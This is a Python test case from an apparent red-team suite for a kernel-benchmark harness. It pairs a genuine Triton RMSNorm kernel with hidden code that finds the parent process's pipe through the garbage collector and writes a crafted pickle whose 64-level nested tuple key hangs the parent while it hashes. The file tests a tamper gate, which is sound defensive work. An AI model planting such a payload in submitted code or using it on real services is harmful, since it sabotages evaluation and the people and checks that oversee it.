"""Hangs the trusted parent while it unpickles a message (2026-12-08 channel red-team pass).  The
frame is small (about 600 bytes) and arrives at once, so the frame deadline does not apply; its
pickle builds t0 = 0, t(k+1) = (t(k), t(k)) through the memo (each level stores the tuple and
fetches it twice), 64 levels deep, and uses t64 as a dict key.  Building the dict hashes the key,
and a tuple's hash is not cached: hashing t64 visits 2**64 leaves, in C, holding the GIL, inside
the parent's wait loop.  The bench never ends.  Expected: GATE_TAMPERED (the parent scans every
message's pickle before it rebuilds it and refuses one whose dict keys or set elements would cost
more than a bound to hash, gate/wire.py ``pickle_problem``).
"""

import gc
import os
import struct
from multiprocessing.connection import Connection

import triton
import triton.language as tl


@triton.jit
def _rmsnorm_rows(x_ptr, w_ptr, y_ptr, eps, H: tl.constexpr):
    row = tl.program_id(0)
    cols = tl.arange(0, H)
    x = tl.load(x_ptr + row * H + cols).to(tl.float32)
    w = tl.load(w_ptr + cols).to(tl.float32)
    rms = 1.0 / tl.sqrt(tl.sum(x * x, axis=0) / H + eps)
    tl.store(y_ptr + row * H + cols, (x * rms * w).to(tl.bfloat16))


def _pipe_fd():
    for obj in gc.get_objects():
        if isinstance(obj, Connection) and not obj.closed and obj.writable:
            return obj.fileno()
    return None


def _frame(body):
    return (struct.pack("!i", len(body)) if len(body) < 0x7FFFFFFF else struct.pack("!iQ", -1, len(body))) + body


def _message():
    out = [b"\x80\x02}", b"K\x00"]                        # PROTO 2, EMPTY_DICT, BININT1 0
    for k in range(64):
        out.append(b"r" + struct.pack("<I", k))            # LONG_BINPUT k
        out.append(b"j" + struct.pack("<I", k))            # LONG_BINGET k
        out.append(b"\x86")                                # TUPLE2
    out.append(b"K\x01s.")                                 # {t64: 1}
    return b"".join(out)


_sent = [False]


def run(x, weight, eps, y):
    fd = _pipe_fd()
    if fd is not None and not _sent[0]:
        _sent[0] = True
        os.write(fd, _frame(_message()))
    _rmsnorm_rows[(x.shape[0],)](x, weight, y, eps, H=x.shape[1])
